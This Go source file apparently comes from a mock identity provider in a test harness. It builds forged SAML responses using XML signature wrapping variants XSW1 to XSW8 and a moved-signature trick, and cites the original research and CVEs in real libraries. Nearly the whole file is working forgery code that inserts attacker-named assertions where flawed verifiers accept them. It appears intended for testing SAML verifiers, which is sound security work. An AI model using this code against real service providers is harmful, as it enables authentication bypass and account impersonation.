package federation

import (
	"github.com/beevik/etree"

	"github.com/rollover-harness/rollover/mockidp/credential"
)

// wrap moves what is signed to where the verifier finds it and the reader does
// not, and puts what names the attacker in its place: XML signature wrapping
// ("On Breaking SAML", USENIX Security 2012). The positions are those that SAML
// Raider numbers so. signed is the assertion, and parent what holds it: the
// response itself, or in WS-Federation the RequestedSecurityToken.
//
// Real libraries that fell for some of them: OpenSAML, OpenAM, Salesforce's and
// OneLogin's (all in that paper); ruby-saml (CVE-2024-45409, CVE-2025-25291),
// xml-crypto (CVE-2025-29774), samlify (CVE-2025-47949).
func (a *assertion) wrap(parent, signed *etree.Element) {
	switch a.request.Forge {
	case credential.UnsignedAssertion:
		a.moveSignature(parent, signed)
	case credential.XSW1, credential.XSW2:
		a.wrapResponse(parent)
	case credential.XSW3: // the evil assertion stands before the signed one
		parent.InsertChildAt(signed.Index(), a.evil(signed, true))
	case credential.XSW4: // the evil assertion holds the signed one
		evil := a.evil(signed, true)
		parent.InsertChildAt(signed.Index(), evil)
		evil.AddChild(signed)
	case credential.XSW5: // the evil assertion has the signature; what it is of stands behind
		parent.AddChild(a.bare(signed))
		a.rename(signed)
		a.reID(signed)
	case credential.XSW6: // the same, but it stands inside the signature
		original := a.bare(signed)
		a.rename(signed)
		a.reID(signed)
		signatureOf(signed).AddChild(original)
	case credential.XSW7: // the evil assertion stands in Extensions, under the same ID
		extensions := etree.NewElement(prefixed(parent, "Extensions"))
		at := signed.Index()
		if status := parent.SelectElement("Status"); status != nil {
			at = status.Index() // where the schema has Extensions, core section 3.2.2
		}
		parent.InsertChildAt(at, extensions)
		extensions.AddChild(a.evil(signed, false))
	case credential.XSW8: // the original stands in the signature's Object, under the same ID
		original, signature := a.bare(signed), signatureOf(signed)
		a.rename(signed)
		child(signature, prefixed(signature, "Object")).AddChild(original)
	default:
	}
}

// wrapResponse is XSW1 and XSW2: the response that was signed stands without its
// signature in it (1) or before it (2), in a response that names the attacker.
func (a *assertion) wrapResponse(root *etree.Element) {
	original, signature := a.bare(root), signatureOf(root)
	a.rename(root)
	a.reID(root)
	a.reID(root.SelectElement("Assertion")) // readers that know their IDs refuse to find one twice
	if a.request.Forge == credential.XSW1 {
		signature.AddChild(original)
		return
	}
	root.InsertChildAt(signature.Index(), original)
}

// moveSignature makes the signed assertion's signature, which stays good, the
// response's child, and puts an evil assertion first. Whoever asks only whether
// the response has a good signature believes both; this one covers the second.
func (a *assertion) moveSignature(root, signed *etree.Element) {
	root.InsertChildAt(signed.Index(), a.evil(signed, true))
	root.InsertChildAt(1, signatureOf(signed))
}

// evil is a copy that names the attacker, without signature, under an ID of its
// own where asked for.
func (a *assertion) evil(of *etree.Element, ownID bool) *etree.Element {
	evil := a.bare(of)
	a.rename(evil)
	if ownID {
		a.reID(evil)
	}
	return evil
}

// bare is a copy without its own signature.
func (a *assertion) bare(of *etree.Element) *etree.Element {
	bare := of.Copy()
	bare.RemoveChild(signatureOf(bare))
	return bare
}

// reID gives an element another ID.
func (a *assertion) reID(e *etree.Element) {
	name := "ID"
	if a.version11 {
		name = "AssertionID"
	}
	e.CreateAttr(name, idOf([]byte("evil "+e.SelectAttrValue(name, ""))))
}

func signatureOf(e *etree.Element) *etree.Element { return e.SelectElement("Signature") }

// prefixed is a name with the prefix that e has.
func prefixed(e *etree.Element, name string) string {
	if e.Space == "" {
		return name
	}
	return e.Space + ":" + name
}
